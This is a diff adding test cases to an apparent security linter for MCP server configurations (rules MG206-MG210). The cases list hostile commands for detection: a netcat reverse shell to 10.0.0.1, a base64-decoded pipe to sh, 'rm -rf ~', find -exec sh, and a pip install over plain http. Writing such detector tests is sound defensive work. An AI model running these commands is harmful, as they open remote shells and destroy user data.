@@ -89,6 +89,12 @@ var ruleCases = []ruleCase{
 	{"uvx git", "MG205", true, server(`{"command":"uvx","args":["--from","git+https://github.com/x/y","y"]}`), Options{}, "git"},
 	{"npx github shorthand", "MG205", true, server(`{"command":"npx","args":["-y","user/repo"]}`), Options{}, "GitHub"},
 	{"npx scoped", "MG205", false, server(`{"command":"npx","args":["-y","@user/repo@1.0.0"]}`), Options{}, ""},
+	// MG206-MG210 (the paired corpus in testdata/paired/exec has the rest)
+	{"find -exec sh", "MG206", true, server(`{"command":"find","args":[".","-exec","sh","-c","id","{}",";"]}`), Options{}, "find -exec"},
+	{"nc -e", "MG207", true, server(`{"command":"nc","args":["-e","/bin/sh","10.0.0.1","4444"]}`), Options{}, "network socket"},
+	{"base64 -d | sh", "MG208", true, server(`{"command":"sh","args":["-c","echo aWQ= | base64 -d | sh"]}`), Options{}, "decoded"},
+	{"rm -rf ~", "MG209", true, server(`{"command":"rm","args":["-rf","~"]}`), Options{}, "recursively"},
+	{"pip http index", "MG210", true, server(`{"command":"pip","args":["install","-i","http://pypi.example/simple","x"]}`), Options{}, "plain http"},
 	// MG301-MG309 come from trust.Parse.
 	{"invalid", "MG301", true, mcp(`{"mcpServers":{"s":{"command":"x",}}}`), Options{}, "cannot parse"},
 	{"valid", "MG301", false, mcp(`{"mcpServers":{}}`), Options{}, ""},
